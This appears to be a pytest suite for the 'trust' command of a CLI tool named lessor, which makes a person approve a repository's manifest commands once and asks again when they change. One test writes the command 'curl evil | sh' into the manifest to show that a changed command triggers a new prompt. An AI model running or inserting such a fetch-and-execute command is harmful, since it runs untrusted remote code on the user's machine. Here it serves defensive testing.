"""What a repository's files would run is agreed to once."""

from __future__ import annotations

import re
import stat

import pytest
from person import Person, git


def test_without_a_terminal_the_refusal_names_the_line_to_run(person: Person) -> None:
    refused = person.run("trust")
    assert refused.code == 4
    assert refused.err.splitlines()[0] == "  check     true  (lessor.toml)"
    command = re.search(r"lessor trust ([0-9a-f]{12})$", refused.err)
    assert command
    assert person.ok("trust", command[1]).lines[-1] == "next  lessor run"
    assert person.ok("trust", "-o", "json").json["trusted"] is True
    assert "lessor trust" not in person.ok().out


def test_an_agents_name_stays_apart_from_its_command(person: Person) -> None:
    manifest = 'check = "true"\nagents = { mine = ["my-agent", "{brief}"] }\n'
    (person.cwd / "lessor.toml").write_text(manifest)
    git(person.cwd, "commit", "-qam", "an agent of our own")
    assert person.run("trust").err.splitlines()[:2] == [
        "  check       true  (lessor.toml)",
        "  agent mine  my-agent {brief}  (lessor.toml)",
    ]


def test_another_digest_is_refused(person: Person) -> None:
    refused = person.run("trust", "0" * 12)
    assert refused.code == 2
    assert person.run("trust", "").code == 2
    assert not (person.state / "trust").exists()


def test_a_changed_command_asks_again_and_an_old_one_doesnt(person: Person) -> None:
    _agree(person)
    first = git(person.cwd, "rev-parse", "HEAD")
    (person.cwd / "lessor.toml").write_text('check = "curl evil | sh"\n')
    assert person.run("trust").code == 0  # not committed: it doesn't hold yet
    git(person.cwd, "commit", "-qam", "another check")
    assert person.run("trust").code == 4
    git(person.cwd, "checkout", "-q", first)
    assert person.run("trust").code == 0


def test_another_clone_asks_again(person: Person, tmp_path) -> None:
    _agree(person)
    clone = tmp_path / "clone"
    git(tmp_path, "clone", "-q", str(person.cwd), str(clone))
    assert person.run("trust", cwd=clone).code == 4


def test_a_repository_that_names_nothing_needs_no_trust(person: Person) -> None:
    git(person.cwd, "rm", "-q", "lessor.toml")
    git(person.cwd, "commit", "-qm", "plain")
    assert person.ok("trust").lines == ["this repository names nothing to run", "next  lessor"]
    (person.cwd / "lessor.toml").write_text('check = "true"\n')
    assert person.ok("trust").lines[1].startswith("lessor.toml here isn't committed as it is")


def test_trust_is_kept_for_the_person_alone(person: Person) -> None:
    _agree(person)
    (path,) = (person.state / "trust").iterdir()
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert path.read_text() == "check: true (lessor.toml)\n"


@pytest.mark.parametrize(("answer", "code"), [("y", 0), ("n", 4), ("", 4)])
def test_on_a_terminal_it_asks(person: Person, answer: str, code: int) -> None:
    assert person.answers("trust", asked=b"check     true  (lessor.toml)", answer=answer) == code
    assert person.run("trust").code == (0 if code == 0 else 4)


def test_a_manifest_with_an_unknown_key_is_refused_with_the_nearest(person: Person) -> None:
    (person.cwd / "lessor.toml").write_text('chekc = "true"\n')
    git(person.cwd, "commit", "-qam", "misspelt")
    refused = person.run("trust")
    assert refused.code == 2
    assert refused.err == (
        "lessor: lessor.toml has an unknown key 'chekc'.\n  next  Did you mean `check`?\n"
    )


def _agree(person: Person) -> None:
    digest = person.run("trust", "-o", "json").problem["facts"]["digest"]
    person.ok("trust", digest)
